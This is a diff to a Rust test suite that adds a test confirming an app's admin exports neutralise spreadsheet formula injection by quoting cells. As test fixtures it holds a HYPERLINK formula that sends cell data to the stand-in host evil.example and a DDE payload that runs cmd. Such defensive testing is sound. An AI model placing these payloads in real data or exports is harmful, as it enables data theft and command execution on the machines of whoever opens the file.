@@ -7,9 +7,10 @@ mod common;
 use app::admin::dashboard::cache::ProductCharts;
 use app::admin::dashboard::model::*;
 use app::admin::dashboard::{push, service};
-use app::admin::export::{self, BOM, CHUNK_BYTES, Export, ExportQuery};
+use app::admin::export::{self, Export, ExportQuery};
 use app::catalog::cache::PageCache;
 use app::db::{Db, Sql};
+use app::export::{BOM, CHUNK_BYTES};
 use app::lang::Text;
 use app::live::hub::Hub;
 use app::live::model::{Event, ServerFrame, Topic};
@@ -552,6 +553,45 @@ async fn exports_follow_the_filters_and_escape_what_they_must(db: Db) {
     assert_eq!(column(&inquiries, "company"), ["Tea Ltd 2", "Tea Ltd 1"]);
 }
 
+/// A product, a cooperative or a buyer named like a formula reaches every admin export as
+/// text: the cell starts with a single quote, and the figures we write (negative days left
+/// included) stay numbers.
+async fn exports_never_hand_a_spreadsheet_a_formula(db: Db) {
+    fixture(&db).await;
+    let product = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem\")";
+    let coop = "+cmd|' /C calc'!A0";
+    let district = "@Hàm Yên";
+    let buyer = "-1+1";
+    for (update, value) in [
+        ("UPDATE products SET name_vi = ", product),
+        ("UPDATE cooperatives SET name_vi = ", coop),
+        ("UPDATE districts SET name_vi = ", district),
+        ("UPDATE inquiries SET company = ", buyer),
+    ] {
+        let mut sql = Sql::new(update);
+        sql.bind(value.to_owned()).push(" WHERE id IN (1, 3)");
+        common::exec(&db, sql).await;
+    }
+    let quoted = |s: &str| format!("'{s}");
+
+    let (_, products) = export_of(&db, Export::Products, ExportQuery::default()).await;
+    let names = column(&products, "name_vi");
+    assert!(names.contains(&quoted(product).as_str()), "{names:?}");
+    assert!(column(&products, "cooperative").contains(&quoted(coop).as_str()));
+    assert!(column(&products, "district").contains(&quoted(district).as_str()));
+
+    let (_, orders) = export_of(&db, Export::Orders, ExportQuery::default()).await;
+    assert!(column(&orders, "cooperative").contains(&quoted(coop).as_str()));
+
+    let expired = ExportQuery { state: "expired".into(), ..Default::default() };
+    let (_, certificates) = export_of(&db, Export::Certificates, expired).await;
+    assert_eq!(column(&certificates, "product"), ["Sản phẩm ruou", quoted(product).as_str()]);
+    assert_eq!(column(&certificates, "days_left"), ["-15", "-1"], "our negative numbers stay numbers");
+
+    let (_, inquiries) = export_of(&db, Export::Inquiries, ExportQuery::default()).await;
+    assert_eq!(column(&inquiries, "company"), ["Tea Ltd 2", quoted(buyer).as_str()]);
+}
+
 /// A big export leaves in bounded chunks, as the rows are read: nothing holds the whole file.
 async fn a_large_export_streams_in_bounded_chunks(db: Db) {
     fixture(&db).await;
@@ -578,6 +618,7 @@ async fn a_large_export_streams_in_bounded_chunks(db: Db) {
 
 on_both_databases!(
     exports_follow_the_filters_and_escape_what_they_must,
+    exports_never_hand_a_spreadsheet_a_formula,
     a_large_export_streams_in_bounded_chunks,
     the_tiles_count_today_in_vietnam_time,
     the_charts_aggregate_the_range_and_follow_every_filter,
